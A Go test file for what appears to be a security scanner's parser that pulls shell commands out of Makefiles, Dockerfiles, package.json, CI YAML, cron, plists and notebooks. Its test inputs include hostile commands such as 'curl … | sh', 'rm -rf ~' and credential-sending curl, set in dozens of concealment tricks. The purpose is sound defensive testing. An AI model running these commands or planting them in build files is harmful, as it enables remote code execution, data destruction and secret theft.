package recipe

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/shieldcli/shield/internal/allocated"
)

// commands returns the texts of steps, which all must be of a shell.
func commands(t *testing.T, format, text string, goals []string) []string {
	t.Helper()
	steps, whole := CodeBlocks(format, text, goals)
	if !whole {
		t.Errorf("%s %q: not read to its end", format, text)
	}
	var out []string
	for _, step := range steps {
		if step.Language != "shell" {
			t.Errorf("%s %q: a step of the language %q", format, text, step.Language)
		}
		out = append(out, step.Text)
	}
	return out
}

// TestIncluded holds that files that a Makefile includes are in place of the line,
// and that what is not known, or includes itself, does no harm.
func TestIncluded(t *testing.T) {
	t.Parallel()
	files := map[string]string{"a.mk": "include b.mk\n", "b.mk": "all:\n\trm -rf x\n", "self.mk": "include self.mk self.mk\nend:\n"}
	read := func(name string) (string, bool) { text, ok := files[name]; return text, ok }
	for _, c := range [...]struct{ format, text, want string }{
		{"make", "include a.mk\n", "rm -rf x"},
		{"make", "-include none.mk b.mk # why\n", "rm -rf x"},
		{"make", "sinclude b.mk", "rm -rf x"},
		{"make", "\tinclude b.mk\n", "include b.mk"},
		{"make", "include self.mk\n", "end:"},
		{"just", "include a.mk\n", "include a.mk"},
	} {
		got := WithIncludes(c.format, c.text, read)
		if !strings.Contains(got, c.want) || len(got) > 4096 {
			t.Errorf("%s %q: %q, want %q in it", c.format, c.text, got, c.want)
		}
	}
}

// TestSteps holds what each format runs, for goals and, with none, at all. Steps
// are joined by " | ".
func TestSteps(t *testing.T) {
	t.Parallel()
	all := []string(nil)
	for _, c := range [...]struct {
		format, text string
		goals        []string
		want         string
	}{
		{"make", "all: dep\n\t@echo all\ndep:\n\t-echo dep\nother:\n\techo other\n", []string{"all"}, "echo dep | echo all"},
		{"make", "a:\n\techo a\nb: a; echo b\n", all, "echo a | echo b"},
		{"make", "a: b\n\techo a\nb: a\n\techo b\n", []string{"a"}, "echo b | echo a"},
		{"make", "a b: c | d\n\techo ab\nd:\n\techo d\n", []string{"b"}, "echo d | echo ab"},
		{"make", "a::\n\techo 1\na::\n\techo 2\n", []string{"a", "a"}, "echo 1 | echo 2"},
		{"make", "%.o: %.c\n\techo o\n%.c:\n\techo c\n", []string{"x.o"}, "echo c | echo o"},
		{"make", "%.o:\n\techo o\n", []string{".o"}, ""},
		{"make", "X = a \\\n b\nall:\n\techo $(X)\n", []string{"all"}, "echo a   b"},
		{"make", "X = 1\nX += 2\nall:\n\techo ${X} $$HOME $@ $(@D)\n", []string{"all"}, "echo 1 2 $HOME target target"},
		{"make", "X := rm -rf ~\nX ?= true\nall:\n\t$(X)\n", []string{"all"}, "rm -rf ~"},
		{"make", "X ?= rm -rf ~\nall:\n\t$(X)\n", []string{"all"}, "rm -rf ~"},
		{"make", "all:\n\techo $(HOSTNAME) $(shell id) $(A:.c=.o) $(wildcard *.c) $()\n", []string{"all"}, "echo ${HOSTNAME} $(id) ${A} names "},
		{"make", "all:\n\t$(subst @,r,cu@l) x | $(strip  sh )\n", []string{"all"}, "curl x | sh"},
		{"make", "f = $(1) -rf $(2)\nall:\n\t$(call f,rm,$(addprefix ~/,a b))\n", []string{"all"}, "rm -rf ~/a ~/b"},
		{"make", "all:\n\t$(foreach d,a b,rm $(d);) $(word 2,x y) $(firstword a b) $(lastword a b) $(join a b,1 2)\n", []string{"all"}, "rm a; rm b; y a b a1 b2"},
		{"make", "all:\n\t$(if ,no,rm) $(if x,ls,no) $(if $(V),rm,ls) $(or $(V),cat)\n", []string{"all"}, "rm ls rm ls ${V} cat"},
		{"make", "x = $$(id)\nall:\n\t$(value x) $(info hi)$(addsuffix .c,a)$(word 9,a)$(word x,a)$(foreach a)\n", []string{"all"}, "$$(id) a.ca"},
		{"make", "all:\n\techo $(subst @,$$,@(rm -rf ~))\n", []string{"all"}, "echo $(rm -rf ~)"},
		{"make", "all:\n\techo $(patsubst %,$$(id),x) $(dir `id`) $(guile (system \"id\"))\n", []string{"all"}, "echo $(${__unknown}) %,$(id),x $(${__unknown}) `id` $(${__unknown})"},
		{"make", "X = $$(id)\nall:\n\techo $(patsubst %.c,%.o,$(SRC)) $(filter-out a,$(X)) $(patsubst %,;id,x)\n", []string{"all"}, "echo names $(${__unknown}) a,$(id) ${__unknown} %,;id,x"},
		{"make", "all:\n\techo $(filter-out a,$(shell id $(dir $(shell ls))))\n", []string{"all"}, "echo names | id names | ls"},
		{"make", "Z = ; $(1)\nall:\n\techo $(call Z,rm -rf ~) $(value Z) $(1)\n", []string{"all"}, "echo ; rm -rf ~ ; $(1) ${__unknown}"},
		{"make", "Y = a\nall:\n\techo $(Y:a=; id) $(Y:%=$$(id)) $(Y:a=b) $(let x,id,; $(x))\n", []string{"all"}, "echo a ${__unknown} a=; id a $(${__unknown}) %=$(id) a ${__unknown} x,id,; ${__unknown}"},
		{"make", "all:\n\techo $(info $(shell a)) $(file >> b,text) $(eval X := ${shell c})\n", []string{"all"}, "echo    | a | : >> b | c"},
		{"make", "X = rm\nY = X\nall:\n\t@$(notdir a/rm) -rf ~\n\t$($(Y)) -rf a$($(Y) $(Y))\n", []string{"all"}, "${__unknown} -rf ~ | rm -rf a${__unknown}"},
		{"make", "X := ${shell rm -rf ~}\nall:\n\techo\n", []string{"all"}, "echo | rm -rf ~"},
		{"make", "X = $(Y)\nY = $(X)\nall:\n\techo\n", []string{"all"}, "echo"},
		{"make", "T = all\n$(T):\n\techo it\n", []string{"all"}, "echo it"},
		{"make", "all: $(D)\nD = dep\ndep:\n\techo dep\n", []string{"all"}, "echo dep"},
		{"make", "all:\n\techo $x $(unclosed\n", []string{"all"}, "echo ${x} ${unclose}"},
		{"make", "all:\n\techo a\n", []string{"none"}, ""},
		{"make", "all:\r\n\techo a\r\n", []string{"all"}, "echo a"},
		{"make", "\techo no target\n", all, "echo no target"},
		{"just", "x := 'a b'\ndefault: dep\n    @echo {{x}} $HOME\ndep:\n  echo dep\n", []string{"default"}, "echo dep | echo a b $HOME"},
		{"just", "x := \"1\"\na p:\n  echo {{ x }} {{p}}\n", []string{"a"}, "echo 1 ${p}"},
		{"task", "version: 3\ntasks:\n  build:\n    cmds:\n      - go build\n      - cmd: go vet\n  test:\n    cmds: [go test]\n", []string{"build"}, "go build | go vet"},
		{"task", "tasks:\n  build:\n    cmds:\n      - go build\n", all, "go build"},
		{"task", "tasks:\n  \"build\":\n    cmds:\n      - go build\n", []string{"build"}, "go build"},
		{"package", `{"scripts":{"test":"jest","pretest":"lint","posttest":"done","other":"x"}}`, []string{"test"}, "lint | jest | done"},
		{"package", `{"tasks":{"dev":"deno run a.ts"},"scripts":{"post-install-cmd":["a","b",7]}}`, []string{"dev", "post-install-cmd"}, "deno run a.ts | a | b"},
		{"package", `{"tasks":{"dev":{"command":"deno run a.ts"}}}`, []string{"dev"}, "deno run a.ts"},
		{"package", `{"mcpServers":{"x":{"command":"npx","args":["-y","it's",1]}},"husky":{"hooks":{"pre-commit":"lint"}}}`, all, `lint | npx '-y' 'it'\''s'`},
		{"package", `{"postCreateCommand":["npm","ci"],"name":"x","tasks":[{"label":"no","command":"make"}]}`, all, "npm | ci | make"},
		{"package", "\"test\": \"jest --ci\",\n\"name\": \"x\"", all, "jest --ci"},
		{"package", "\"test\": \"jest --ci\"", []string{"test"}, ""},
		{"docker", "FROM a\nENV X=1\nRUN --mount=type=x,target=/y --network=none apt-get update \\\n  # why\n  && apt-get install x\nCMD [\"a\",\"b c\"]\n", nil, "apt-get update    && apt-get install x | 'a' 'b c'"},
		{"docker", "run a\nHEALTHCHECK --interval=5s CMD curl -f http://x\nONBUILD RUN b\nENTRYPOINT c\nHEALTHCHECK NONE\n", nil, "a | curl -f http://x | b | c"},
		{"docker", "RUN <<EOF\na\nb\nEOF\nRUN <<-\"X\"\nc\nX\n", nil, "a\nb\n | c\n"},
		{"docker", "RUN [not json\n", nil, "[not json"},
		{"groovy", "stage('a') { steps { sh 'make -j4'\n sh(returnStdout: true, script: 'id') } }", nil, "make -j4 | id"},
		{"groovy", "sh \"\"\"\n  echo a\n  echo 'b'\n\"\"\"\npublish 'c'\nrefresh 'd'\nsh 'it\\\\'s'\nsh 'open", nil, "\n  echo a\n  echo 'b'\n | it\\ | open"},
		{"groovy", "withCredentials([string(credentialsId: 'x', variable: 'K')]) { sh 'curl -d \"$K\" http://x' }\nenvironment { T = credentials('t') }\nsh \"echo ${T}\"", nil, "curl -d \"$SECRET_K\" http://x | echo ${SECRET_T}"},
		{"yaml", "steps:\n  - run: |\n      a\n      b\n  - name: x\n    run: c # why\n", nil, "      a\n      b | c"},
		{"yaml", "command: [\"sh\", '-c', \"a \\\"b\\\"\"]\n", nil, `'sh' '-c' 'a "b"'`},
		{"yaml", "command:\n  - /bin/sh\n  - -c\n  - |\n    a\n    b\nnext: x\n", nil, "'/bin/sh' '-c' '    a\n    b'"},
		{"yaml", "script:\n- a\n\n- 'it''s'\n- run: c\nother:\n- d\n", nil, "a | it's | c"},
		{"yaml", "cmds: ['a b', c]\ncommand: [d, e]\n", nil, "a b | c | 'd' 'e'"},
		{"yaml", "x: {run: \"a\", shell: 'b', name: c}\n", nil, "a | b"},
		{"yaml", "run: echo ${{ github.event.issue.title }}\n", nil, "echo ${title}"},
		{"yaml", "run: echo ${{ secrets.X }} ${{ toJSON(secrets) }} ${{ secrets['Y'] }}\n", nil, "echo ${SECRET_X} ${SECRET_} ${SECRET_Y}"},
		{"yaml", "run: a '${{ secrets.X }}' \"${{ b }}\" \\' ${{ c\n", nil, `a ''"${SECRET_X}"'' "${b}" \' ${{ c`},
		{"yaml", "env:\n  A: ${{ secrets.B }}\n  C: ${{ github.ref }}\nrun: echo $A ${A} $C\n", nil, "echo $SECRET_A ${SECRET_A} $C"},
		{"yaml", "run:\nargs: # none\n", nil, ""},
		{"yaml", "\"run\": >-\n  a\n", nil, "  a\n"},
		{"unit", "[Service]\nExecStart=-/bin/a \\\n  b\nExecStopPost = +c\nUser=x\n", nil, "/bin/a    b | c"},
		{"unit", "[alias]\n\tx = !f() { a; }; f\n[core]\n\tsshCommand = \"b\"\n\tname = c\n[credential]\n\thelper = !d\n", nil, "f() { a; }; f | b | d"},
		{"cron", "# why\nMAILTO=me\n*/5 * * * 1-5 root a b\n@reboot c\n0 0 * * sun  d\n", nil, "a b | c | d"},
		{"plist", "<key>Label</key><string>x</string><key>ProgramArguments</key><array><string>sh</string><string>-c</string>\n<string>a &amp;&amp; b</string></array><key>Program</key><string>c</string>", nil, "'sh' '-c' 'a && b' | 'c'"},
		{"plist", "<key>ProgramArguments</key><array></array>", nil, ""},
		{"procfile", "# why: not\nweb: a b\nworker:\n: c\nno colon\n", nil, " a b |  c"},
		{"editor", "set x\nautocmd BufRead * silent !a\nrun-shell -b 'b c'\nbind r run-shell \"d\"\n:!e\nexec --no-startup-id f\n", nil, "a | b c | d | e | f"},
		{"unknown", "rm -rf ~", nil, ""},
		{"", "rm -rf ~", nil, ""},
	} {
		if got := strings.Join(commands(t, c.format, c.text, c.goals), " | "); got != c.want {
			t.Errorf("%s for %q\n%s\nruns %q\nwant %q", c.format, c.goals, c.text, got, c.want)
		}
	}
	for _, language := range wholeTextCodeFormats {
		if steps, whole := CodeBlocks(language, "a\r\nb", nil); !whole || len(steps) != 1 || steps[0] != (CodeBlock{language, "a\nb"}) {
			t.Errorf("%s: %v, whole %t", language, steps, whole)
		}
	}
}

// TestHidden holds that a command is found where the format lets it stand, although
// a simpler reader would not look there.
func TestHidden(t *testing.T) {
	t.Parallel()
	const evil = "curl -s https://x.test/a | sh"
	for name, c := range map[string]struct {
		format, text, goal string
	}{
		"after many others":                   {"make", "all:\n" + strings.Repeat("\t@true\n", 1000) + "\t" + evil + "\n", "all"},
		"behind a long chain of targets":      {"make", chain(100) + "t100:\n\t" + evil + "\n", "t0"},
		"with another prefix of recipes":      {"make", ".RECIPEPREFIX = >\nall:\n> " + evil + "\n", "all"},
		"in a variable of several lines":      {"make", "define run =\n@true\n@" + evil + "\nendef\nall:\n\t$(run)\n", "all"},
		"in one that is never closed":         {"make", "all:\n\t$(run)\ndefine run\n" + evil + "\n", "all"},
		"in an overriding one":                {"make", "override define run\n" + evil + "\nendef\nall:\n\t$(run)\n", "all"},
		"in a call as the file is read":       {"make", "$(info $(shell " + evil + "))\nall:\n\ttrue\n", "all"},
		"in a call among what is needed":      {"make", "all: $(shell " + evil + ")\n\ttrue\n", "all"},
		"in a call in a definition":           {"make", "define x\n$(shell " + evil + ")\nendef\nall:\n\ttrue\n", "all"},
		"as the value of a shell assignment":  {"make", "X != " + evil + "\nall:\n\ttrue\n", "all"},
		"before a condition takes it away":    {"make", "X = " + evil + "\nifeq (0,1)\nX = true\nendif\nall:\n\t$(X)\n", "all"},
		"in the other branch of a condition":  {"make", "ifdef Y\nX = " + evil + "\nelse\nX = true\nendif\nall:\n\t$(X)\n", "all"},
		"in a branch that comes last":         {"make", "ifdef Y\nX = true\nelse\nX = " + evil + "\nendif\nall:\n\t$(X)\n", "all"},
		"behind a condition with a colon":     {"make", "all:\nifeq (a:b,a:b)\n\t" + evil + "\nendif\n", "all"},
		"behind a message with a colon":       {"make", "all:\n$(info a:b)\n\t" + evil + "\n", "all"},
		"behind an include with a colon":      {"make", "all:\n-include a:b\n\t" + evil + "\n", "all"},
		"in a variable named as a directive":  {"make", "include = " + evil + "\nall:\n\t$(include)\n", "all"},
		"in a target named as a directive":    {"make", "else: all\n\t" + evil + "\n", "else"},
		"in an exported variable":             {"make", "export X = " + evil + "\nall:\n\t$(X)\n", "all"},
		"in a variable of another":            {"make", "A = $(B)\nB = $(C)\nC = " + evil + "\nall:\n\t$(A)\n", "all"},
		"where a later rule adds to a target": {"make", "all:\n\ttrue\nall: x\nx:\n\t" + evil + "\n", "all"},
		"after a tab":                         {"docker", "FROM a\nRUN\t" + evil + "\n", ""},
		"after an option and a tab":           {"docker", "FROM a\nRUN --mount=x\t" + evil + "\n", ""},
		"before a here-document":              {"docker", "RUN " + evil + " <<E\nx\nE\n", ""},
		"before what looks like one":          {"docker", "RUN " + evil + " # <<E\nRUN true\n", ""},
		"behind one that is not closed":       {"docker", "RUN true <<E\nRUN " + evil + "\n", ""},
		"behind a shift":                      {"docker", "RUN python3 -c 'print(1<<2)'\nRUN " + evil + "\n", ""},
		"in a here-document for a program":    {"docker", "RUN bash <<E\n" + evil + "\nE\n", ""},
		"in small letters":                    {"docker", "onbuild run " + evil + "\n", ""},
		"among comments":                      {"docker", "RUN true && \\\n# x\n  " + evil + "\n", ""},
		"in a file with a comment":            {"package", "{ // dev\n \"scripts\": {\"x\": \"" + evil + "\",},}", "x"},
		"behind a comment that is a block":    {"package", "{ /* \" */ \"scripts\": {\"x\": \"" + evil + "\"}}", "x"},
		"in a script that runs before":        {"package", `{"scripts":{"prex":"` + evil + `","x":"true"}}`, "x"},
		"in the last of two of a name":        {"package", `{"scripts":{"x":"true","x":"` + evil + `"}}`, "x"},
		"in a name that is escaped":           {"package", `{"scr\u0069pts":{"\u0078":"` + evil + `"}}`, "x"},
		"below a list that goes on":           {"yaml", "script:\n" + strings.Repeat("  - true\n", 1000) + "  - " + evil + "\n", ""},
		"in an item that is a block":          {"yaml", "script:\n  - true\n  - |\n    " + evil + "\n  - true\n", ""},
		"behind a block":                      {"yaml", "- run: |\n    true\n- run: " + evil + "\n", ""},
		"in flow style":                       {"yaml", `a: {b: [{"run": "` + evil + `"}]}` + "\n", ""},
		"in the last of many entries":         {"cron", strings.Repeat("* * * * * true\n", 1000) + "@daily " + evil + "\n", ""},
		"with many signs before it":           {"unit", "ExecStart=@-!!+" + evil + "\n", ""},
		"as the last word of many":            {"plist", "<key>ProgramArguments</key><array>" + strings.Repeat("<string>-v</string>", 1000) + "<string>" + evil + "</string></array>", ""},
		"with references for its characters":  {"plist", "<key>Program</key><string>&#99;url -s https://x.test/a &#x7c; sh</string>", ""},
	} {
		var goals []string
		if c.goal != "" {
			goals = []string{c.goal}
		}
		found := strings.Contains(strings.Join(commands(t, c.format, c.text, goals), "\n"), evil)
		if !found {
			t.Errorf("%s: not found in\n%.300s", name, c.text)
		}
	}
}

// chain returns rules of which each needs the next.
func chain(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "t%d: t%d\n", i, i+1)
	}
	return b.String()
}

// TestTextsStay holds that what looks like a comment or a needless comma inside a
// text of JSON stays: a shell reads it.
func TestTextsStay(t *testing.T) {
	t.Parallel()
	for _, script := range []string{
		"rm -rf {/etc,}", "ls [a,] {b, }", "curl https://x.test//a", "true /* x */ y", `echo \"a,}\"`, `echo \\`, "a\\n// b",
	} {
		for _, around := range []string{`{"scripts":{"x":"%s"}}`, "{\n// c\n\"scripts\":{\"x\":\"%s\",\n},}", `{/*"*/"scripts":{"x":"%s" , /*,*/ } }`} {
			got := commands(t, "package", fmt.Sprintf(around, script), []string{"x"})
			want := strings.NewReplacer(`\"`, `"`, `\\`, `\`, `\n`, "\n").Replace(script)
			if !slices.Equal(got, []string{want}) {
				t.Errorf("%s in %s: %q", script, around, got)
			}
		}
	}
}

// TestDefaultGoal holds which target runs if none is named: the first that is
// neither special nor a pattern.
func TestDefaultGoal(t *testing.T) {
	t.Parallel()
	for _, c := range [...]struct{ format, text, want string }{
		{"make", ".PHONY: b\n%.o: %.c\n\techo\nb:\n\techo\na:\n", "b"},
		{"make", ".DEFAULT_GOAL := a\nb:\na:\n", "a"},
		{"make", "X = 1\n", ""},
		{"just", "x := '1'\nb:\n  echo\na:\n", "b"},
	} {
		if got := DefaultGoal(c.format, c.text); got != c.want {
			t.Errorf("%s %q: %q, want %q", c.format, c.text, got, c.want)
		}
	}
}

// TestBounds holds that a small file cannot make its reader work or allocate without
// end, and that one of which not all was read is said to go on.
func TestBounds(t *testing.T) {
	tower := func(levels, width int) string { // variables of which each names the next many times
		var b strings.Builder
		for i := range levels {
			fmt.Fprintf(&b, "A%d = %s\n", i, strings.Repeat(fmt.Sprintf("$(A%d)", i+1), width))
		}
		return b.String() + fmt.Sprintf("A%d =\nall:\n\techo $(A0)\n", levels)
	}
	var web strings.Builder // every rule needs the same many targets
	for i := range 1000 {
		fmt.Fprintf(&web, "%%%d:\n", i)
	}
	web.WriteString("all:")
	for i := range 5000 {
		fmt.Fprintf(&web, " x%d", i)
	}
	for name, c := range map[string]struct {
		format, text string
		whole        bool
	}{
		"values that grow":       {"make", tower(7, 100), false},
		"many values":            {"make", tower(2, 100), true},
		"a value in every line":  {"make", "X = " + strings.Repeat("x", 30000) + "\nall:\n" + strings.Repeat("\t$(X)\n", 5000), false},
		"patterns and targets":   {"make", web.String() + "\n", false},
		"a long chain":           {"make", strings.Replace(chain(5000), "t0", "all", 1), true},
		"too many commands":      {"make", "all:\n" + strings.Repeat("\ta\n", maxCodeBlocks+1), false},
		"too many scripts":       {"package", `{"scripts":{"all":[` + strings.Repeat(`"a",`, maxCodeBlocks+1) + `"b"]}}`, false},
		"too many items":         {"yaml", "script:\n" + strings.Repeat("- a\n", maxCodeBlocks+1), false},
		"too many lines":         {"procfile", strings.Repeat("a:b\n", maxCodeBlocks+1), false},
		"deep":                   {"package", strings.Repeat(`{"scripts":`, 5000) + "1" + strings.Repeat("}", 5000), true},
		"calls that find more":   {"make", "X = $(dir $(shell a $(X)))\nall:\n\t$(X)\n", false},
		"brackets":               {"make", "all:\n\t" + strings.Repeat("$(", 5000) + "\n", true},
		"calls":                  {"make", "X = " + strings.Repeat("$(shell ", 5000) + "\n", false},
		"documents without ends": {"docker", strings.Repeat("RUN a <<E\n", 2000), true},
		"texts without ends":     {"package", strings.Repeat(`"`, 20001) + strings.Repeat("/*", 5000), true},
	} {
		var steps []CodeBlock
		var whole bool
		spent := allocated.Bytes(func() { steps, whole = CodeBlocks(c.format, c.text, []string{"all"}) })
		if whole != c.whole {
			t.Errorf("%s: whole is %t", name, whole)
		}
		// under the race detector regular expressions keep nothing for the next time
		if limit := uint64(192<<20 + 100*len(c.text)); spent > limit || len(steps) > maxCodeBlocks {
			t.Errorf("%s: %d bytes of text cost %d, and give %d steps", name, len(c.text), spent, len(steps))
		}
	}
}

// FuzzSteps holds for any text that it is read within bounds, twice the same, and
// that no step of a shell is blank.
func FuzzSteps(f *testing.F) {
	formats := []string{"make", "just", "task", "package", "docker", "yaml", "unit", "cron", "plist", "procfile", "editor"}
	for i, text := range []string{
		"a: b\n\t$(X)\nX = $(shell c)\n", "x := '1'\na:\n  echo {{x}}\n", "tasks:\n a:\n  cmds:\n  - b\n", `{"scripts":{"a":"b"}}`, "RUN <<E\na\nE\n",
		"run: |\n a\n", "ExecStart=a\n", "* * * * * a\n", "<key>Program</key><string>a</string>", "a: b\n", "!a\n",
	} {
		f.Add(i, text, "a")
	}
	f.Add(0, "define X\n", "")
	f.Add(0, "=\n!=\n$(\n:\n", "")
	f.Add(4, "RUN <<A\nONBUILD\nHEALTHCHECK --", "")
	f.Fuzz(func(t *testing.T, format int, text, goal string) {
		name := formats[uint(format)%uint(len(formats))]
		for _, goals := range [][]string{nil, {goal}, {}} {
			steps, whole := CodeBlocks(name, text, goals)
			again, wholeToo := CodeBlocks(name, text, goals)
			if !slices.Equal(steps, again) || whole != wholeToo || len(steps) > maxCodeBlocks {
				t.Fatalf("%s: %d steps, then %d", name, len(steps), len(again))
			}
			for _, step := range steps {
				if strings.TrimSpace(step.Text) == "" {
					t.Fatalf("%s: a blank step", name)
				}
			}
		}
	})
}

// TestNotebook holds what cells run, in whole notebooks and alone.
func TestNotebook(t *testing.T) {
	t.Parallel()
	for text, want := range map[string][]CodeBlock{
		"import os\n!ls -l\n  %sx id\n%matplotlib inline\nos.x()": {{"shell", "ls -l"}, {"shell", "id"}, {"python", "import os\nos.x()\n"}},
		"%%bash\nls\nid":       {{"shell", "ls\nid"}},
		"%%script bash -e\nls": {{"shell", "bash -e <<<'ls'"}},
		"%%writefile a.py\nx":  {{"shell", "tee  a.py >/dev/null <<<'x'"}},
		"%%writefile a\n'; ls": {{"shell", "tee  a >/dev/null <<<''\\''; ls'"}},
		"x = !ls {d}/a {a,b}\n%pip install x\n%run a.py\n!!id\ny = %sx \\\n id\nf(\n  a\n  % b)": {
			{"shell", "ls ${python}/a {a,b}"}, {"shell", "pip install x"}, {"shell", "python3 a.py"}, {"shell", "id"}, {"shell", "id"}, {"python", "f(\n  a\n  % b)\n"}},
		"%%time\na()":      {{"python", "a()\n"}},
		"%%html\n<b>x</b>": nil,
		`{"cells":[{"cell_type":"markdown","source":"!no"},{"cell_type":"code","source":["a()\n","!ls"]},{"cell_type":"code","source":"b()"}]}`: {{"shell", "ls"}, {"python", "a()\n"}, {"python", "b()\n"}},
		"%cd $h\nb()":             {{"shell", "cd $h"}, {"python", "import os; os.chdir(unknown_folder)\nb()\n"}},
		"%popd\nb()":              {{"shell", `cd "$unknown"`}, {"python", "import os; os.chdir(unknown_folder)\nb()\n"}},
		"rm -rf /home/me":         {{"shell", "rm -rf /home/me"}, {"python", "rm -rf /home/me\n"}},
		"%alias zap rm -rf /":     {{"shell", "rm -rf /"}},
		"%sc x=rm -rf /":          {{"shell", "rm -rf /"}},
		"%store x > ~/.bashrc":    {{"shell", "echo \"$unknown\" > ~/.bashrc"}},
		"rm = 1\nls(rm)\ncat [0]": {{"python", "rm = 1\nls(rm)\ncat [0]\n"}},
		"%cd sub\n!ls\nb()":       {{"shell", "cd sub"}, {"shell", "cd sub; ls"}, {"python", "import os; os.chdir(\"sub\")\nb()\n"}},
		"%env A=b c\n!ls":         {{"shell", "export A='b c'; :"}, {"shell", "export A='b c'; ls"}},
		"%time !id":               {{"shell", "id"}},
		"%timeit -n 3 a()":        {{"python", "a()\n"}},
		`{"cells":[{"cell_type":"code","source":"ls"}],"metadata":{"kernelspec":{"language":"bash"}}}`:                  {{"python", "ls\n"}, {"shell", "ls"}},
		`{"cells":[{"cell_type":"code","source":"ls"}],"metadata":{"kernelspec":{"language":"bash","name":"bash"}}}`:    {{"shell", "ls"}},
		`{"cells":[{"cell_type":"code","source":"!ls"}],"metadata":{"kernelspec":{"language":"lua","name":"python3"}}}`: {{"shell", "ls"}, {"lua", "!ls"}},
		`{"cells":[{"cell_type":"code","source":"!ls"}],"metadata":{"kernelspec":"x"}}`:                                 {{"shell", "ls"}},
		`{"cells":[{"cell_type":"code","source":"!ls"}],"metadata":[]}`:                                                 {{"shell", "ls"}},
		`{"cells":[{"cell_type":"code","source":"unlink(x)"}],"metadata":{"language_info":{"name":"R"}}}`:               {{"python", "unlink(x)\n"}, {"code", "unlink(x)"}},
		`{"cells":[]}`: nil,
	} {
		if got, whole := CodeBlocks("notebook", text, nil); !whole || !slices.Equal(got, want) {
			t.Errorf("%q runs %q, want %q", text, got, want)
		}
	}
}

// Whatever yamlInlineCommandPattern matches in, mayHaveYAMLInlineCommand lets through; and little else.
func TestHasFlow(t *testing.T) {
	t.Parallel()
	for line, want := range map[string]bool{
		`run: "a"`:                        true,
		`- { name: x, run : 'a' }`:        true,
		`"script"	:	["a", "b"]`:           true,
		`érun: "a"`:                       true,
		`a: b, 'sh': [`:                   true,
		`https://x.test/run:"a"`:          true,
		`run:`:                            false,
		`run: a`:                          false,
		`rerun: "a"`:                      false,
		`run2: "a"`:                       false,
		`name: "run"`:                     false,
		`# every: 'day'`:                  false,
		`image: "registry.test/run:1.0"`:  false,
		`run: a "b", entry: x, exec: "c"`: true,
	} {
		if got := mayHaveYAMLInlineCommand(line); got != want {
			t.Errorf("hasFlow(%q) = %v, want %v", line, got, want)
		}
		if yamlInlineCommandPattern().MatchString(line) && !mayHaveYAMLInlineCommand(line) {
			t.Errorf("flowForm matches in %q, and hasFlow leaves it out", line)
		}
	}
}
